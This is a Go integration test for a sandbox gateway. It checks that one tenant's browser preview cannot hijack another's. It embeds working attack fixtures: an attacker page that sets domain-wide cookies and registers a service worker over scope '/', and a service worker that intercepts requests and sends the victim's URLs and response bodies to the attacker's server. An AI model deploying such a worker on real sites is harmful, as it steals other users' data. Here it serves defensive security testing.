package main

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/sandgate/sandgate/internal/gwtest"
)

// tenantServer is a dev server in Python's standard library: it serves
// the current directory, logs every request with its Cookie and
// Service-Worker headers to ../requests.log, answers /report (where a
// service worker would send what it stole) with 204, and /setcookie with
// a cookie for the whole parent domain. Every answer carries
// Service-Worker-Allowed: /, as a hostile server's would.
const tenantServer = `import http.server, os, sys
LOG = os.path.join(os.path.dirname(os.getcwd()), "requests.log")
class H(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        pass
    def end_headers(self):
        self.send_header("Service-Worker-Allowed", "/")
        super().end_headers()
    def do_GET(self):
        with open(LOG, "a") as f:
            f.write("%s %s cookie=%s sw=%s\n" % (self.command, self.path, self.headers.get("Cookie", ""), self.headers.get("Service-Worker", "")))
        if "/report" in self.path:
            self.send_response(204)
            self.end_headers()
            return
        if self.path.endswith("/setcookie"):
            self.send_response(200)
            self.send_header("Set-Cookie", "srv=%s; Domain=localhost; Path=/" % sys.argv[2])
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            self.wfile.write(b"ok")
            return
        super().do_GET()
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
`

// attackerPage is tenant A's page: it leaves a mark in its storage and
// cookies (one for the whole domain, set by script and by its server) and
// installs a service worker over the widest scope it can.
const attackerPage = `<!doctype html><title>A</title><body>tenant A
<script>
window.result = (async () => {
  localStorage.setItem("owner", "tenant-A");
  document.cookie = "jsdomain=tenant-A; Domain=localhost; Path=/";
  document.cookie = "jshost=tenant-A; Path=/";
  await fetch("setcookie");
  try {
    await navigator.serviceWorker.register("sw.js", {scope: "/"});
    await navigator.serviceWorker.ready;
    return "registered";
  } catch (e) {
    return "refused: " + e;
  }
})();
</script>`

// attackerWorker answers every request in its scope itself: it fetches
// the real answer, sends the URL and the body to A's server, and shows
// HIJACKED with the body.
const attackerWorker = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => {
  const u = e.request.url;
  if (u.includes("/report")) return;
  e.respondWith((async () => {
    let body = "";
    try { body = await (await fetch(e.request)).text(); } catch (err) { body = "fetch failed: " + err; }
    await fetch(new URL("report?u=" + encodeURIComponent(u) + "&b=" + encodeURIComponent(body.slice(0, 200)), location.href));
    return new Response("HIJACKED " + body, {headers: {"Content-Type": "text/html"}});
  })());
});
`

// victimPage is tenant B's page: it shows what it finds of A in its
// storage and cookies.
const victimPage = `<!doctype html><title>B</title><body>tenant B's page
<script>window.seen = {storage: localStorage.getItem("owner"), cookie: document.cookie};</script>`

// TestPreviewBrowserIsolation is the attack of issue 34, in a real
// headless Chromium: tenant A's preview registers a service worker (its
// server allows scope /), then the same browser opens tenant B's
// presigned file link and B's preview. A's worker must see neither, and
// nothing A's page or server set (storage, cookies, for the whole domain
// too) may reach B's page or B's server. On a gateway that serves
// previews and links on its own origin, A's worker answers both and
// sends B's file to A's server.
func TestPreviewBrowserIsolation(t *testing.T) {
	chromium := gwtest.RequireBrowser(t)
	gwtest.RequireTool(t, "python3")
	g := startGateway(t, "--api-key", "default:test-token", "--api-key", "bob:bob-token")
	bob := *g
	bob.Token = "bob-token"

	a := g.createSession(t)
	var b sessionJSON
	if code := bob.api(t, http.MethodPost, "/v1/sessions", map[string]any{}, &b); code != http.StatusCreated {
		t.Fatalf("bob's create: %d", code)
	}
	aPort := gwtest.FreePort(t)
	bPort := freePortNot(t, aPort)
	secret := "tenant-B-secret-" + b.SessionID
	putFile(t, g, a.SessionID, "site/index.html", attackerPage)
	putFile(t, g, a.SessionID, "site/sw.js", attackerWorker)
	putFile(t, g, a.SessionID, "server.py", tenantServer)
	putFile(t, &bob, b.SessionID, "site/index.html", victimPage)
	putFile(t, &bob, b.SessionID, "secret.txt", secret+"\n")
	putFile(t, &bob, b.SessionID, "server.py", tenantServer)
	for _, s := range []struct {
		g    *gatewayProc
		id   string
		port int
		name string
	}{{g, a.SessionID, aPort, "tenant-A"}, {&bob, b.SessionID, bPort, "tenant-B"}} {
		c := procClient{g: s.g, base: "/v1/sessions/" + s.id + "/processes"}
		c.start(t, map[string]any{"command": fmt.Sprintf("cd site && exec python3 ../server.py %d %s", s.port, s.name), "name": "http"})
		previewWait(t, fmt.Sprintf("%s/v1/sessions/%s/ports/%d/index.html", g.URL, s.id, s.port), s.g.Token)
	}

	var aLink, bLink, bFile struct{ URL string }
	if code := g.api(t, http.MethodPost, "/v1/sessions/"+a.SessionID+"/ports/link", map[string]any{"port": aPort}, &aLink); code != 200 {
		t.Fatalf("A's port link: %d", code)
	}
	if code := bob.api(t, http.MethodPost, "/v1/sessions/"+b.SessionID+"/ports/link", map[string]any{"port": bPort}, &bLink); code != 200 {
		t.Fatalf("B's port link: %d", code)
	}
	if code := bob.api(t, http.MethodPost, "/v1/sessions/"+b.SessionID+"/files/link", map[string]any{"path": "secret.txt"}, &bFile); code != 200 {
		t.Fatalf("B's file link: %d", code)
	}
	t.Logf("A's preview %s\nB's preview %s\nB's file %s", aLink.URL, bLink.URL, bFile.URL)

	browser := gwtest.StartBrowser(t, chromium)
	page := browser.NewPage(t)
	if e := page.Navigate(t, aLink.URL+"index.html"); e != "" {
		t.Fatalf("A's page: %s", e)
	}
	var registered string
	page.Eval(t, "window.result", &registered)
	t.Logf("A's service worker: %s", registered)

	// The victim, in the same browser: B's file link, then B's page.
	fileNav := page.Navigate(t, bFile.URL)
	var fileText string
	if fileNav == "" {
		page.Eval(t, "document.body ? document.body.innerText : ''", &fileText)
	}
	t.Logf("B's file link: %q %q", fileNav, fileText)
	if fileNav == "" {
		// Content-Disposition: attachment: a download, never a page.
		t.Errorf("B's file link opened as a page (%q), want a download", fileText)
	}
	if e := page.Navigate(t, bLink.URL+"index.html"); e != "" {
		t.Fatalf("B's page: %s", e)
	}
	var text string
	page.Eval(t, "document.body.innerText", &text)
	var seen struct{ Storage, Cookie string }
	page.Eval(t, "window.seen || {}", &seen)

	aLog := sessionFile(t, g, a.SessionID, "requests.log")
	bLog := sessionFile(t, &bob, b.SessionID, "requests.log")
	t.Logf("A's server saw:\n%s\nB's server saw:\n%s", aLog, bLog)
	if strings.Contains(aLog, "/report") || strings.Contains(aLog, url.QueryEscape(secret)) {
		t.Errorf("A's service worker reported B's traffic to A's server:\n%s", aLog)
	}
	if strings.Contains(fileText, "HIJACKED") || strings.Contains(text, "HIJACKED") {
		t.Errorf("A's service worker answered B's link (%q) or page (%q)", fileText, text)
	}
	if !strings.Contains(text, "tenant B's page") {
		t.Errorf("B's page shows %q", text)
	}
	if seen.Storage != "" || strings.Contains(seen.Cookie, "tenant-A") {
		t.Errorf("B's page sees A's storage or cookies: %+v", seen)
	}
	if strings.Contains(bLog, "tenant-A") {
		t.Errorf("B's server received A's cookies:\n%s", bLog)
	}
	if strings.Contains(aLog, "sw=script") {
		t.Errorf("a service worker's script request reached A's server:\n%s", aLog)
	}
}

// sessionFile reads path in session id over REST.
func sessionFile(t *testing.T, g *gatewayProc, id, path string) string {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, g.URL+"/v1/sessions/"+id+"/files?path="+url.QueryEscape(path), nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+g.Token)
	res, err := httpNoKeep().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(res.Body)
	if res.StatusCode == http.StatusNotFound {
		return ""
	}
	if res.StatusCode != http.StatusOK {
		t.Fatalf("read %s: %d %s", path, res.StatusCode, body)
	}
	return string(body)
}

// TestPreviewURLsCurl: with no flag, a port link is an origin of its own
// that plain curl reaches with no DNS set-up (curl resolves *.localhost
// to the loopback), on the gateway's one port; --public-url and
// --preview-domain make the URLs an operator's proxy serves, whatever
// Host header a client sends; bad values are refused at start.
func TestPreviewURLsCurl(t *testing.T) {
	curl := gwtest.RequireTool(t, "curl")
	gwtest.RequireTool(t, "python3")
	g := startGateway(t)
	s := g.createSession(t)
	port := gwtest.FreePort(t)
	putFile(t, g, s.SessionID, "site/marker.txt", "curl-reached\n")
	procClient{g: g, base: "/v1/sessions/" + s.SessionID + "/processes"}.start(t,
		map[string]any{"command": fmt.Sprintf("cd site && exec python3 -m http.server %d --bind 127.0.0.1", port), "name": "http"})
	previewWait(t, fmt.Sprintf("%s/v1/sessions/%s/ports/%d/marker.txt", g.URL, s.SessionID, port), g.Token)
	var link struct{ URL string }
	if code := g.api(t, http.MethodPost, "/v1/sessions/"+s.SessionID+"/ports/link", map[string]any{"port": port}, &link); code != 200 {
		t.Fatalf("port link: %d", code)
	}
	u, err := url.Parse(link.URL)
	gu, _ := url.Parse(g.URL)
	if err != nil || !strings.HasSuffix(u.Hostname(), ".localhost") || u.Port() != gu.Port() {
		t.Fatalf("preview URL %q: want *.localhost on the gateway's port %s", link.URL, gu.Port())
	}
	out, errOut, rc := runClient(t, cleanEnv(), nil, curl, "-sS", "--noproxy", "*", link.URL+"marker.txt")
	if rc != 0 || out != "curl-reached\n" {
		t.Fatalf("curl %s: %d %q %q", link.URL, rc, out, errOut)
	}

	pg := startGateway(t, "--public-url", "https://sandgate.test:8443/base", "--preview-domain", "preview.test")
	ps := pg.createSession(t)
	var fl, pl struct{ URL string }
	putFile(t, pg, ps.SessionID, "f.txt", "x")
	if code := pg.api(t, http.MethodPost, "/v1/sessions/"+ps.SessionID+"/files/link", map[string]any{"path": "f.txt"}, &fl); code != 200 ||
		!strings.HasPrefix(fl.URL, "https://sandgate.test:8443/base/links/") {
		t.Errorf("file link %d %q, want it under --public-url", code, fl.URL)
	}
	closed := gwtest.FreePort(t)
	if code := pg.api(t, http.MethodPost, "/v1/sessions/"+ps.SessionID+"/ports/link", map[string]any{"port": closed}, &pl); code != 200 ||
		!strings.HasPrefix(pl.URL, fmt.Sprintf("https://p%d-", closed)) || !strings.HasSuffix(pl.URL, ".preview.test:8443/") {
		t.Fatalf("port link %d %q, want https://p%d-....preview.test:8443/", code, pl.URL, closed)
	}
	// The gateway serves the preview domain's names on its listener (a
	// TLS proxy in front passes the Host on).
	pu, _ := url.Parse(pl.URL)
	out, _, _ = runClient(t, cleanEnv(), nil, curl, "-sS", "--noproxy", "*", "-H", "Host: "+pu.Host, pg.URL+"/x")
	if !strings.Contains(out, `"port_unreachable"`) {
		t.Errorf("the preview domain's name on the listener: %q, want the preview (nothing listens on its port)", out)
	}

	for _, bad := range [][]string{{"--public-url", "sandgate.test:8443"}, {"--public-url", "https://u:p@x"}, {"--preview-domain", "10.0.0.1"}} {
		if _, err := parseServe(bad, io.Discard); err == nil {
			t.Errorf("serve %q started", bad)
		}
	}
}
